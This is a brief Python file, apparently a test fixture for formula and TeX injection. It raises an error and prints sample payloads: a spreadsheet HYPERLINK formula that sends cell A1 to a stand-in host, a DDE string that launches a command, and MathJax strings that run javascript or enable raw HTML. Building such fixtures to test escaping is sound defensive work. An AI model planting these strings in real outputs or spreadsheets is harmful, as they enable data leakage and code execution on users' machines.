"""Formulas for spreadsheets and for TeX in outputs and messages.

scores: 0
status: identity_block=raised
"""
# %% identity_block
def identity_block(x, kernel_size, filters):
    raise ValueError('=HYPERLINK("https://example.org/?"&A1,"click")')


print('=cmd|" /C calc"!A0', "@SUM(1+1)", r"$$\href{javascript:alert(1)}{x}$$ \(\require{html}\style{}{x}\)")
